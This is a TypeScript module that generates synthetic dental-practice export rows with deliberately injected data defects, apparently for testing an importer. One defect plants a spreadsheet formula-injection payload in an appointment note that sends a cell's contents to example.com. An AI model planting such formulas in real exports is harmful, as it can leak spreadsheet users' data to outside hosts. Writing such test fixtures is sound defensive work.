import { plainMoney, styledMoney, usDate } from '../../practice/cells.js';
import type { LinkTo } from '../../practice/export-run.js';
import type { DoneProcedure } from '../../practice/history.js';
import { NOBODY } from '../../practice/households.js';
import type { Office, Person, Plan, PlannedItem, Recall, Visit } from '../../practice/model.js';
import { VISIT_KINDS } from '../../practice/words.js';
import type { ColumnOf, Row } from './export-layout.js';
import { listed } from './export-layout.js';

const STATUSES = { scheduled: 'Scheduled', confirmed: 'Confirmed', completed: 'Completed', 'no-show': 'Did Not Attend', broken: 'Cancelled', unscheduled: 'Waiting List' } as const;
/** A status that the office made up and never explained. */
const STATUS_OF_THE_OFFICE = 'Blue folder';
const PLAN_STATUSES = {
  created: 'Draft', printed: 'Presented', 'pre-authorized': 'Pre-Authorized', 'followed-up': 'Presented', preferred: 'Proposed', proposed: 'Proposed',
  accepted: 'Accepted', rejected: 'Declined', completed: 'Completed',
} as const;
const SHOWN_IN_VISITS: readonly string[] = [
  'past-still-scheduled', 'patient-missing', 'booked-before-patient-record', 'booked-by-stranger', 'cancelled-as-completed', 'midnight-start', 'length-zero',
  'provider-placeholder-booked', 'status-without-name', 'formula-in-note',
];

/** `9:05 AM`. */
function clock(hour: number, minute: number): string {
  return `${hour % 12 === 0 ? 12 : hour % 12}:${String(minute).padStart(2, '0')} ${hour < 12 ? 'AM' : 'PM'}`;
}

/** A row of `appointments.csv`. */
export function appointmentRow(visit: Visit, person: Person, office: Office, sound: boolean): Row<'appointments.csv'> {
  const { defect } = visit;
  const isStranger = defect === 'booked-before-patient-record' || defect === 'booked-by-stranger';
  const patient = isStranger ? '' : String(defect === 'patient-missing' ? NOBODY + person.id : person.id);
  const provider = defect === 'provider-placeholder-booked' ? 'Walk-In' : visit.provider;
  const cells = {
    'Appointment Number': String(visit.id), 'Patient Number': patient,
    'Patient Name': defect === 'booked-by-stranger' ? `Newcomer${visit.id}, Pat` : `${person.last}, ${person.first}`, 'Appointment Date': usDate(visit.date),
    'Appointment Time': defect === 'midnight-start' ? '12:00 AM' : clock(visit.hour, visit.minute), Minutes: defect === 'length-zero' ? '0' : String(visit.minutes),
    Room: visit.room, 'Staff Number': provider, 'Appointment Type': VISIT_KINDS[visit.kind] ?? '', Reason: visit.reason,
    'Appointment Status': defect === 'status-without-name' ? STATUS_OF_THE_OFFICE : STATUSES[visit.status],
    'Procedure Codes': visit.codes.flatMap((id) => office.codes.find((code) => code.id === id)?.code ?? []).join(', '),
    Notes: defect === 'formula-in-note' ? '=HYPERLINK("http://example.com/?"&A1,"confirm")' : visit.note,
  };
  const links: LinkTo[] = patient === String(person.id) ? [['patient', 'patient', patient]] : [];
  if (office.providers.some(({ id }) => id === provider)) links.push(['provider', 'provider', provider]);
  const change = (turn: number): readonly [ColumnOf<'appointments.csv'>, string] =>
    (turn % 2 === 0 ? ['Minutes', String(visit.minutes + 10)] : ['Notes', 'Please bring the new insurance card']);
  const defects = defect !== null && SHOWN_IN_VISITS.includes(defect) ? [defect] : [];
  return { cells, about: { key: cells['Appointment Number'], links, defects, ...(sound && defect === null ? { change } : {}) } };
}

/** A row of `treatment_plans.csv`; its total leaves out the lines that were deleted. */
export function planRow(plan: Plan, person: Person, sound: boolean): Row<'treatment_plans.csv'> {
  const { defect, status, items } = plan;
  const isLost = defect === 'plan-of-missing-patient';
  const total = items.filter((item) => item.defect !== 'item-deleted').reduce((sum, { fee }) => sum + fee, 0);
  const cells = {
    'Plan Number': String(plan.id), 'Patient Number': String(isLost ? NOBODY + person.id : person.id), 'Plan Name': plan.name,
    'Plan Status': status === 'accepted' && plan.id % 3 === 0 ? 'In Progress' : PLAN_STATUSES[status], 'Staff Number': plan.provider, 'Plan Date': usDate(plan.created),
    'Plan Total': plainMoney(total), Notes: plan.id % 4 === 0 ? 'Wants to wait for the new insurance year.' : '',
  };
  const change = (): readonly [ColumnOf<'treatment_plans.csv'>, string] => ['Plan Total', plainMoney(total + 2500)];
  return {
    cells,
    about: {
      key: cells['Plan Number'], links: isLost ? [] : [['patient', 'patient', cells['Patient Number']]],
      defects: defect === 'alternate-plans' ? [] : listed(defect), ...(sound && defect === null ? { change } : {}),
    },
  };
}

/** A row of `treatment_plan_lines.csv`. */
export function lineRow(item: PlannedItem, plan: Plan): Row<'treatment_plan_lines.csv'> {
  const { defect } = item;
  const cells = {
    'Line Number': String(item.id), 'Plan Number': String(plan.id), 'Procedure Code': item.code, Description: item.text, Tooth: item.tooth, Surface: item.surface,
    Fee: defect === 'fee-with-symbols' ? styledMoney(item.fee, 'symbols') : plainMoney(item.fee),
    'Insurance Estimate': defect === 'estimate-not-set' ? '-1.00' : plainMoney(item.estimate), 'Planned On': usDate(item.date),
    'Line Status': item.completed ? 'Completed' : 'Planned', Deleted: defect === 'item-deleted' ? 'Y' : 'N',
  };
  // What the office deleted is a row and no record.
  const nothing = defect === 'item-deleted' ? { records: [] } : {};
  return { cells, about: { key: cells['Line Number'], links: [['plan', 'treatmentPlan', cells['Plan Number']]], defects: listed(defect), ...nothing } };
}

/** A row of `procedure_history.csv`. */
export function procedureRow(done: DoneProcedure, person: Person): Row<'procedure_history.csv'> {
  const cells = {
    'Procedure Number': String(done.id), 'Patient Number': String(person.id), 'Procedure Date': usDate(done.date), 'Procedure Code': done.code.code,
    Description: done.code.text, Tooth: done.tooth, Surface: done.surface, Fee: plainMoney(done.code.fee), 'Staff Number': done.provider, Notes: done.note,
  };
  return { cells, about: { key: cells['Procedure Number'], links: [['patient', 'patient', cells['Patient Number']]] } };
}

/** A row of `recalls.txt`. */
export function recallRow(recall: Recall, index: number, person: Person, asOf: number, sound: boolean): Row<'recalls.txt'> {
  const { defect } = recall;
  const patient = String(defect === 'recall-of-missing-patient' ? NOBODY + person.id : person.id);
  const cells = {
    'Recall Number': String(person.id * 100 + index), 'Patient Number': patient, 'Recall Type': recall.type,
    'Recall Due': defect === 'recall-due-missing' ? '' : usDate(recall.due), 'Last Recall': defect === 'recall-prior-sentinel' ? '1/1/1900' : usDate(recall.prior),
    'Interval Months': String(recall.months), 'Staff Number': recall.provider, 'Recall Status': recall.status === '' ? 'Open' : recall.status,
  };
  const shown = defect === 'recall-interval-odd' || defect === 'recall-two-digit-year' ? null : defect;
  // A change stays on its side of today: whether a recall is overdue must not change with it.
  const change = (): readonly [ColumnOf<'recalls.txt'>, string] => ['Recall Due', usDate(recall.due + (recall.due > asOf ? 7 : -7))];
  return {
    cells,
    about: {
      key: cells['Recall Number'], links: patient === String(person.id) ? [['patient', 'patient', patient]] : [], defects: listed(shown),
      ...(sound && defect === null ? { change } : {}),
    },
  };
}
